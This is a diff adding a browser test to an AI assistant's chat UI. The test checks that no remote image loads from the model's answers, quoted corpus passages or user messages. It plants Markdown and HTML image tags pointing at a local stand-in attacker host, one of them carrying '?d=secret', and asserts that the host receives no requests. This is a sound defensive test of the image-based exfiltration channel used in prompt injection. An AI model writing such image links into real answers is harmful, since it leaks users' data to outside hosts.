@@ -271,3 +271,98 @@ def test_phone_width(open_page) -> None:
     ask_box = page.locator("#ea-ask").bounding_box()
     assert ask_box and ask_box["y"] + ask_box["height"] <= PHONE["height"]
     shot(page, "ui-phone")
+
+
+# --- leaks: nothing on the page makes the browser fetch from elsewhere ---------------------------
+
+
+class _ImageHost:
+    """Another origin on loopback standing in for an attacker's host: records every request."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_no_remote_image_loads_from_answers_quotes_or_messages(
+    browser, corpus_copy, private_index
+) -> None:
+    from fake_openai import FakeOpenAI, Reply
+
+    from assistant import Settings
+
+    host = _ImageHost()
+    model = FakeOpenAI().start()
+    # A passage carrying an image: the offline answer quotes it in its Markdown text.
+    (corpus_copy / "zebra.txt").write_text(
+        "EP 600: Zebra dashboard notes\n\n"
+        f"The zebra dashboard chart ![chart]({host.url}/corpus.png) shows the zebra totals "
+        f"doubling every quarter, as the <img src='{host.url}/corpus-tag.png'> zebra dashboard "
+        "chart proves.\n",
+        encoding="utf-8",
+    )
+    settings = Settings(
+        index_dir=private_index,
+        corpus_dir=corpus_copy,
+        answerer="openai",
+        openai_base_url=model.base_url,
+        openai_api_key="sk-test-browser-key",
+        llm_max_retries=0,
+        ui_host="127.0.0.1",
+        ui_port=free_port(),
+    )
+    bot = Assistant(settings)
+    bot.index()
+    demo = run_ui(settings, bot, prevent_thread_lock=True)
+    context = browser.new_context(viewport=DESKTOP)
+    requested: list[str] = []
+    try:
+        page = context.new_page()
+        page.on("requestfinished", lambda r: requested.append(r.url))
+        page.goto(str(demo.local_url), wait_until="domcontentloaded")
+        expect(page.locator("#ea-status")).to_contain_text("chunks")
+        # 1. The model writes images (Markdown and a tag) into its answer.
+        model.script(
+            Reply(
+                text=f"The zebra chart doubles [1]. ![x]({host.url}/model.png?d=secret) "
+                f'<img src="{host.url}/model-tag.png"> [1]'
+            )
+        )
+        first = ask(page, "What does the zebra dashboard chart show?")
+        expect(first).to_contain_text("![x]")
+        # 2. The model fails: the quoted answer quotes the passage with its image.
+        model.script(Reply(status=500), Reply(status=500))
+        second = ask(page, "What does the zebra dashboard chart show about the totals?")
+        expect(second).to_contain_text("zebra")
+        # 3. The user's own message carries one.
+        ask(page, f"zebra dashboard ![u]({host.url}/user.png) chart?", sources=False)
+        page.wait_for_timeout(500)
+        assert page.locator(f"#ea-chat img[src^='{host.url}']").count() == 0
+    finally:
+        context.close()
+        demo.close()
+        model.stop()
+        host.close()
+    assert not host.hits, f"the browser fetched {host.hits}"
+    assert not [u for u in requested if u.startswith(host.url)]
